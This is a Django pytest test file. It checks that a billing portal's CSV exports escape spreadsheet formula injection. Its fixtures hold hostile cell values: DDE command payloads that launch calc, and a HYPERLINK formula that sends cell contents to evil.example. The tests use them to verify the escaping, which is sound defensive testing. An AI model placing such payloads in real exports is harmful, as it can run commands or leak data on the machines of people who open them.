"""Output hygiene: every CSV export neutralises cells a spreadsheet would evaluate.

Event ids, channels, workflows and sessions come from the vendor's platform, outcome names from
the vendor's staff: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
leaves every export with a leading ``'`` (OWASP's rule, ``outcomeportal.core.csvsafe``), while a
plain number — a negative amount — stays a number.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test import Client

from accounts.models import Role
from billing.ledger.models import Charge
from metering.models import OutcomeType
from outcomeportal.core.csvsafe import TRIGGERS
from tests import factories
from tests.billing.helpers import contract, post, settle_and_finalize

HOSTILE = {
    "channel": "+cmd|' /C calc'!A0",
    "workflow": "@SUM(1+1)*cmd|' /C calc'!A0",
    "session_id": "-1+1",
}
LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


@pytest.fixture
def world(db):
    factories.make_outcome_type(one_per_session=False)
    OutcomeType.objects.update(name=LINK)  # what an invoice line is called comes from here
    acme = factories.make_account("acme")
    contract(acme, prices=[{"outcome_type": "resolved_conversation", "model": "unit", "price": "0.99"}])
    post(acme, 3, prefix=LINK, **HOSTILE)
    invoice = settle_and_finalize(acme)
    client = Client()
    client.force_login(factories.make_user(Role.CUSTOMER_ADMIN, acme))
    return {"client": client, "invoice": invoice}


def _rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


def _no_cell_evaluates(rows: list[dict]) -> None:
    for row in rows:
        for name, cell in row.items():
            if cell.startswith(TRIGGERS):
                assert cell.startswith("-") and float(cell) < 0, (name, cell)  # only a negative number


def test_the_audit_export_escapes_what_the_platform_sent(world):
    rows = _rows(world["client"].get("/account/acme/events.csv"))
    assert len(rows) == 3
    assert {(r["channel"], r["workflow"], r["session_id"]) for r in rows} == {
        ("'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-1+1")
    }
    assert all(r["event_id"].startswith("'" + LINK + "-") for r in rows)
    _no_cell_evaluates(rows)


def test_the_invoice_csvs_escape_line_names_and_event_fields(world):
    base = f"/account/acme/invoices/{world['invoice'].pk}/"
    lines = _rows(world["client"].get(base + "lines.csv"))
    assert [(r["description"], r["amount"]) for r in lines] == [("'" + LINK, "2.97"), ("Total", "2.97")]
    events = _rows(world["client"].get(base + "events.csv"))
    assert len(events) == 3
    assert {(r["channel"], r["workflow"]) for r in events} == {("'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0")}
    _no_cell_evaluates(lines + events)


def test_a_negative_amount_stays_a_number_in_the_audit_export(world):
    # No service writes a negative amount on a final invoice, and triggers refuse it: set by hand.
    with connection.cursor() as cursor:
        cursor.execute("SET LOCAL session_replication_role = replica")
        Charge.objects.filter(event__event_id__endswith="-0").update(amount="-12.50")
        cursor.execute("SET LOCAL session_replication_role = origin")
    rows = _rows(world["client"].get("/account/acme/events.csv"))
    assert sorted(r["amount"] for r in rows) == ["-12.500000", "0.990000", "0.990000"]
